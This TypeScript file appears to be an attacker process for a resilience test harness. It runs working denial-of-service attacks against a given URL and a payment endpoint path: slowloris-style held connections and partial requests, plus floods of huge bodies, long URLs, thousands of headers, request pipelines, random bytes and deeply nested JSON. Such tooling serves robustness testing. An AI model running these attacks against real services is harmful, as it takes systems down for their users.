// A process of its own that attacks: an attacker does not slow down who measures. It keeps saying, in lines of JSON, how many
// connections it has made and how many are open, and ends when its input ends.
import { randomBytes } from 'node:crypto'
import { connect, type Socket } from 'node:net'
import { setImmediate as nextTurn, setTimeout as pause } from 'node:timers/promises'

/** Slow ones are opened by so many at a time, as a machine's queue of new connections allows. */
const OPENED_AT_ONCE = 250
/** How often it is told how far the attack is. Milliseconds. */
const TELL_MS = 200
/** How often the slow send one more byte, and those that were cut come back. Milliseconds. */
const SLOW_MS = 2_000

const SLOW_HEADERS = 'POST /unipay/syncPay HTTP/1.1\r\nHost: x\r\nX-Slow: '
const post = (length: number, body: string) =>
  `POST /unipay/syncPay HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${length}\r\n\r\n${body}`
const SLOW_BODY = post(1000, '{')

/** Opened and held, and opened again when cut: the first bytes of each connection. */
const HELD: Readonly<Record<string, (index: number) => string>> = {
  'idle connections': () => '',
  'headers that never end': () => SLOW_HEADERS,
  'bodies that never end': () => SLOW_BODY,
  'half of each': (index) => (index % 2 === 0 ? SLOW_HEADERS : SLOW_BODY),
}

/** So many at a time, each followed by the next as soon as it has ended, with no pause; and what each of them sends. */
const FLOODS: Readonly<Record<string, Readonly<{ atOnce: number; bytes: () => Buffer }>>> = {
  'bodies of 1 MiB': { atOnce: 20, bytes: always(post(1_048_576, ' '.repeat(1_048_576))) },
  'URLs of 100 KB': { atOnce: 20, bytes: always(`GET /${'a'.repeat(100_000)} HTTP/1.1\r\nHost: x\r\n\r\n`) },
  'headers by the thousand': {
    atOnce: 20,
    bytes: always(`GET /healthz HTTP/1.1\r\nHost: x\r\n${'X-Flood: flood\r\n'.repeat(5_000)}\r\n`),
  },
  'pipelines of 10,000': { atOnce: 4, bytes: always('GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(10_000)) },
  garbage: { atOnce: 20, bytes: () => randomBytes(4096) },
  'deep JSON': { atOnce: 20, bytes: always(post(60_000, '['.repeat(60_000))) },
}

function always(text: string): () => Buffer {
  const bytes = Buffer.from(text)
  return () => bytes
}

const [, , url = '', attack = '', count = ''] = process.argv
const { hostname, port } = new URL(url)
const open = new Set<Socket>()
let made = 0

/** Resolves once connected, or refused. An attacker does not mind being cut. */
async function dial(bytes: string | Buffer): Promise<Socket> {
  const socket = connect(Number(port), hostname)
  socket.on('error', () => undefined).resume()
  await new Promise<void>((resolve) => {
    socket.once('connect', () => {
      made += 1
      open.add(socket)
      if (bytes.length > 0) socket.write(bytes)
      resolve()
    })
    socket.once('close', () => {
      open.delete(socket)
      resolve()
    })
  })
  return socket
}

async function hold(first: (index: number) => string): Promise<void> {
  for (;;) {
    for (let missing = Number(count) - open.size; missing > 0; missing -= OPENED_AT_ONCE) {
      await Promise.all(Array.from({ length: OPENED_AT_ONCE }, async () => await dial(first(made))))
    }
    await pause(SLOW_MS)
    if (attack === 'idle connections') continue
    for (const socket of open) if (socket.writable) socket.write('x')
  }
}

async function flood(bytes: () => Buffer): Promise<void> {
  for (;;) {
    const socket = await dial(bytes())
    // A request that is answered is over; one that is cut is as well.
    if (!socket.closed) {
      await new Promise<void>((resolve) => {
        socket.once('close', () => resolve())
        socket.once('data', () => socket.destroy())
      })
    }
    await nextTurn()
  }
}

setInterval(() => process.stdout.write(`${JSON.stringify({ made, open: open.size })}\n`), TELL_MS)
process.stdin.resume().once('end', () => process.exit(0))
const held = HELD[attack]
const flooding = FLOODS[attack]
if (held !== undefined) await hold(held)
else if (flooding !== undefined) {
  await Promise.all(Array.from({ length: flooding.atOnce }, async () => await flood(flooding.bytes)))
} else throw new Error(`no such attack: ${attack}`)
